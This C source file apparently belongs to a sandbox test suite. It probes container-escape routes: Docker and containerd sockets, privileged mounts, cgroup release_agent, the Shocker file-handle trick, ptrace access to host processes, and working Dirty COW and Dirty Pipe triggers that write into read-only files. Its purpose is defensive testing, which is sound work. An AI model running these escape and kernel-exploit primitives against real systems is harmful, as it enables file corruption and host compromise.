/* SPDX-License-Identifier: MIT */
/*
 * probe_bench.c - the scenarios of SandboxEscapeBench (arXiv 2603.02277) that a jail can
 * have, as far as no other area has them
 *
 * Its eighteen: Kubernetes RBAC and kubectl cp, which have no counterpart here; kernel
 * parameters by CRI-O (proc-sysctl); route_localnet (host-loopback); a privileged
 * container (bench-privileged), the Docker socket (bench-docker), host paths (host-read,
 * bench-disk), CAP_SYS_ADMIN (bench-release-agent), CAP_SYS_MODULE (bench-module),
 * CAP_DAC_READ_SEARCH (file-handle, bench-shocker), CVE-2019-5736 (exe-self, exe-init),
 * CVE-2024-21626 (fd-chdir, fd-exec); the host's PID namespace (bench-host-pids), cgroup
 * release_agent (bench-release-agent), eBPF (bpf, bench-bpf), Dirty COW
 * (bench-dirty-cow), Dirty Pipe (bench-dirty-pipe) and packet sockets (bench-packet).
 */
#include "tests/escape/scene.h"

#include <linux/bpf.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/sysmacros.h>
#include <sys/un.h>

static int connect_to(const char *path)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };

	(void)snprintf(to.sun_path, sizeof(to.sun_path), "%s", path);
	return connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&to,
		       sizeof(to));
}

/* argv: a daemon's socket in a folder that was given for reading, and on the host */
static void docker(char **argv)
{
	static const char *const known[] = {
		"/var/run/docker.sock",
		"/run/docker.sock",
		"/run/containerd/containerd.sock",
		"/run/crio/crio.sock",
		"/run/podman/podman.sock",
		"/run/systemd/private",
		"/run/dbus/system_bus_socket",
	};

	for (; *argv; argv++)
		door(*argv, connect_to(*argv));
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		door(known[i], connect_to(known[i]));
}

/* a node for every disk, mounted: what a privileged container does */
static void privileged(char **argv)
{
	(void)argv;
	probe_spares_the_machine();
	door("block device", mknod("/tmp/disk", S_IFBLK | 0600, makedev(254, 0)));
	door("/dev anew", mount("none", "/tmp", "devtmpfs", 0, NULL));
	door("/dev/pts anew", mount("none", "/tmp", "devpts", 0, "newinstance"));
	door("/sys anew", mount("none", "/tmp", "sysfs", 0, NULL));
}

/* argv: folders of the host that a container is often given */
static void host_disk(char **argv)
{
	for (; *argv; argv++) {
		char path[PATH_MAX];

		door(*argv, open(*argv, O_RDONLY));
		door(probe_above(*argv), open(probe_above(*argv), O_RDONLY));
		(void)snprintf(path, sizeof(path), "%s.new", *argv);
		door(path, open(path, O_WRONLY | O_CREAT, 0666));
	}
}

/* CVE-2022-0492: a cgroup hierarchy of our own, and what it runs when it is empty */
static void release_agent(char **argv)
{
	static const char *const types[][2] = {
		{ "cgroup", "none,name=stepjail" },
		{ "cgroup", "rdma" },
		{ "cgroup", "memory" },
		{ "cgroup2", "" },
	};
	bool any = false;

	(void)argv;
	probe_spares_the_machine();
	(void)mkdir("/tmp/cgroup", 0755);
	(void)syscall(SYS_unshare, CLONE_NEWCGROUP);
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++)
		any = any || mount("none", "/tmp", types[i][0], 0, types[i][1]) == 0;
	door("mount a hierarchy", any ? 0 : -1);
	if (any)
		door("its release_agent", open("/tmp/release_agent", O_WRONLY));
}

static void module(char **argv)
{
	static char elf[64] = "\177ELF";

	(void)argv;
	if (syscall(SYS_init_module, elf, sizeof(elf), "") < 0 && errno == ENOSYS)
		probe_lacks("modules in this kernel");
	door_reach("init_module", syscall(SYS_init_module, elf, sizeof(elf), ""));
	door_reach("finit_module", syscall(SYS_finit_module, 0, "", 0));
}

/* the root of the host's disk, by its inode's number: 2 */
static void shocker(char **argv)
{
	struct {
		unsigned int bytes;
		int type;
		unsigned char text[8];
	} h = { 8, 1, { 2 } };

	(void)argv;
	door_reach("open inode 2", syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &h,
					   O_RDONLY | O_DIRECTORY));
}

/* argv: the PID of a process of the host, of the same user */
static void host_pids(char **argv)
{
	pid_t target = (pid_t)probe_number(argv, 0, "a target");
	char path[64];

	if (target <= 1)
		probe_lacks("a target");
	door("trace it", ptrace(PTRACE_SEIZE, target, NULL, NULL));
	(void)ptrace(PTRACE_DETACH, target, NULL, NULL);
	(void)snprintf(path, sizeof(path), "/proc/%d/root/", target);
	door("its root", open(path, O_RDONLY | O_DIRECTORY));
	(void)snprintf(path, sizeof(path), "/proc/%d/cwd/", target);
	door("its folder", open(path, O_RDONLY | O_DIRECTORY));
	(void)snprintf(path, sizeof(path), "/proc/%d/environ", target);
	door("its environment", open(path, O_RDONLY));
}

/* a program that the verifier must look at: two instructions, return 0 */
static void verifier(char **argv)
{
	struct bpf_insn code[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr load = { 0 };
	long r;

	(void)argv;
	load.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	load.insns = (uint64_t)(uintptr_t)code;
	load.insn_cnt = 2;
	load.license = (uint64_t)(uintptr_t) "MIT";
	r = syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof(load));
	door("load a program", r);
}

/* CVE-2016-5195: one thread drops the copy, another writes. argv: a file for reading */
static char *page;
static volatile bool over;

static void *drop_copy(void *unused)
{
	while (!over)
		(void)madvise(page, 4096, MADV_DONTNEED);
	return unused;
}

static void dirty_cow(char **argv)
{
	int fd = open(probe_word(argv, 0, "a file"), O_RDONLY);
	int mem = open("/proc/self/mem", O_RDWR);
	pthread_t thread;
	char now = 0;

	page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (fd < 0 || page == MAP_FAILED)
		probe_lacks("a file to map");
	door("a way to write to a mapping that is for reading", mem);
	if (mem >= 0 && pthread_create(&thread, NULL, drop_copy, NULL) == 0) {
		for (int i = 0; i < 2000; i++)
			(void)!pwrite(mem, "M", 1, (off_t)(uintptr_t)page);
		over = true;
		(void)pthread_join(thread, NULL);
	}
	if (pread(fd, &now, 1, 0) == 1)
		door_word("the file has changed", now == 'M', "unchanged");
}

/* CVE-2022-0847: a flag that an old pipe buffer kept. argv: a file for reading */
static void dirty_pipe(char **argv)
{
	static char block[4096];
	int fd = open(probe_word(argv, 0, "a file"), O_RDONLY), ends[2];
	off_t start = 0;
	char now[2] = "";
	ssize_t moved;

	if (fd < 0 || pipe(ends) < 0)
		probe_lacks("a file and a pipe");
	/* every buffer of the pipe is once full and once empty: they may now be merged */
	(void)fcntl(ends[1], F_SETFL, O_NONBLOCK);
	(void)fcntl(ends[0], F_SETFL, O_NONBLOCK);
	while (write(ends[1], block, sizeof(block)) > 0)
		;
	while (read(ends[0], block, sizeof(block)) > 0)
		;
	moved = splice(fd, &start, ends[1], NULL, 1, 0);
	if (moved < 0 && errno == EPERM) {
		door("splice", moved); /* the way to the fault is shut */
		return;
	}
	if (moved == 1)
		(void)!write(ends[1], "M", 1);
	if (pread(fd, now, 2, 0) == 2)
		door_word("the file has changed", now[1] == 'M', "unchanged");
	if (moved != 1)
		probe_lacks("splice from a file into a pipe");
}

/* CVE-2017-7308, CVE-2020-14386: a ring of a packet socket */
static void packet(char **argv)
{
	int sock = socket(17, SOCK_RAW, 0), version = 2;

	(void)argv;
	door("packet socket", sock);
	door("its ring", setsockopt(sock, 263, 10, &version, sizeof(version)));
}

static const struct probe probes[] = {
	{ "bench-docker", "talk to a daemon by its socket in a given folder",
	  W(OVERLAY) | W(MOUNTS), &scene_docker, docker, 0, NULL },
	{ "bench-privileged",
	  "what a privileged container does: disks, /dev and /sys anew",
	  W(SECCOMP) | W(CAPS), &scene_namespaces, privileged, 0, NULL },
	{ "bench-disk", "read and write the folders of the host", W(MOUNTS) | W(OLD_ROOT),
	  &scene_host_paths, host_disk, 0, NULL },
	{ "bench-release-agent", "cgroup release_agent (CVE-2022-0492)",
	  W(SECCOMP) | W(CAPS), &scene_namespaces, release_agent, 0, NULL },
	{ "bench-module", "load a module (CAP_SYS_MODULE)", W(SECCOMP) | W(USERS),
	  &scene_as_root, module, CONTROL, NULL },
	{ "bench-shocker", "the host's disk by file handles (CAP_DAC_READ_SEARCH)",
	  W(SECCOMP), &scene_as_root, shocker, 0, NULL },
	{ "bench-host-pids", "enter a process of the host by /proc and ptrace", W(PIDS),
	  &scene_victim, host_pids, 0, NULL },
	{ "bench-bpf", "a program for the verifier of eBPF", W(SECCOMP) | W(USERS),
	  &scene_as_root, verifier, 0, NULL },
	{ "bench-dirty-cow", "Dirty COW (CVE-2016-5195): the way to the fault",
	  W(LANDLOCK) | W(PROC_READ_ONLY), &scene_given_data, dirty_cow, 0, NULL },
	{ "bench-dirty-pipe", "Dirty Pipe (CVE-2022-0847)", W(KERNEL), &scene_given_data,
	  dirty_pipe, MENDED, NULL },
	{ "bench-packet", "a packet socket's ring (CVE-2017-7308, CVE-2020-14386)",
	  W(SECCOMP) | W(CAPS), &scene_namespaces, packet, 0, NULL },
};

AREA(bench, "SandboxEscapeBench", probes);
